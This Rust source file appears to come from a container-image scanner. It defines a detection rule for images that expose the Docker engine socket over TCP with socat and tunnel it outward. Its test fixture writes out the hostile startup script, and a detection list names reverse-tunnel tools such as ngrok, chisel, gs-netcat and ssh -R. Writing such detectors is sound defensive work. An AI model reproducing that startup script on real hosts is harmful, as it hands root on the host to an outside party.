use lazaret_model::{Class, Confidence, Finding, Rule, Severity};

use super::Check;
use crate::Case;
use crate::case::base_name;

/// The engine's socket is made a network port, and a tunnel carries a port to the outside.
pub(super) struct DockerSocketHandedOut;

impl Check for DockerSocketHandedOut {
    fn rule(&self) -> Rule {
        Rule {
            id: "command-and-control/docker-socket-handed-out".into(),
            title: "hand the engine's socket to somebody outside".into(),
            explanation: "What starts with this image turns the socket of the container engine into a port and opens \
                a tunnel to the outside. Whoever holds the other end is root on the host."
                .into(),
            class: Class::Malware,
            severity: Severity::Critical,
            confidence: Confidence::High,
            attack: vec!["T1572".into(), "T1611".into()],
            references: vec!["https://attack.mitre.org/techniques/T1572/".into()],
        }
    }

    fn fires(&self) -> &'static [&'static str] {
        &["FILE /run.sh 0755\n    #!/bin/sh\n    socat TCP-LISTEN:9999,fork UNIX-CONNECT:/var/run/docker.sock &\n    \
           nohup /usr/lib/cf tunnel --no-autoupdate --url tcp://127.0.0.1:9999 &\n    exec app\n\
           ELF /usr/lib/cf 0755\n    cf\nELF /bin/sh 0755\n    sh\nENTRYPOINT [\"/run.sh\"]"]
    }

    fn quiet(&self) -> &'static [&'static str] {
        &[
            // The port stays in the network of whoever runs it.
            "ELF /usr/bin/socat 0755\n    socat\nENTRYPOINT [\"socat\", \"TCP-LISTEN:2375,fork\", \"UNIX-CONNECT:/var/run/docker.sock\"]",
            // A tunnel for a web application.
            "ELF /usr/bin/cloudflared 0755\n    cf\nENTRYPOINT [\"cloudflared\", \"tunnel\", \"--url\", \"http://app:8080\"]",
        ]
    }

    fn look(&self, case: &Case<'_>, _earlier: &[Finding]) -> Vec<Finding> {
        let socket = case.processes().find(|(_, argv)| {
            argv.first().is_some_and(|p| base_name(p) == "socat")
                && argv.iter().any(|a| a.to_ascii_uppercase().contains("UNIX") && a.contains("docker.sock"))
                && argv.iter().any(|a| a.to_ascii_uppercase().starts_with("TCP"))
        });
        let Some((socket, _)) = socket else { return Vec::new() };
        let tunnel = case.processes().find(|(_, argv)| is_tunnel(argv));
        let Some((tunnel, _)) = tunnel else { return Vec::new() };
        let rule = self.rule();
        vec![
            Finding::of(
                &rule,
                "it turns the engine's socket into a port and opens a tunnel to the outside",
                case.behaviour_evidence(socket),
            )
            .and(case.behaviour_evidence(tunnel))
            .reach(Case::phase_reach(socket.phase))
            .build(),
        ]
    }
}

/// Whether a process opens a way in from outside: by its words, since such programs are renamed.
fn is_tunnel(argv: &[String]) -> bool {
    let has = |word: &str| argv.iter().skip(1).any(|a| a == word);
    let name = argv.first().map_or("", |p| base_name(p));
    (has("tunnel") && (has("--url") || has("run") || argv.iter().any(|a| a.starts_with("--url="))))
        || matches!(name, "ngrok" | "frpc" | "bore" | "chisel" | "gs-netcat" | "tmate")
        || (matches!(name, "ssh" | "autossh") && has("-R"))
        || (has("tcp") && argv.iter().any(|a| a.starts_with("--authtoken")))
}
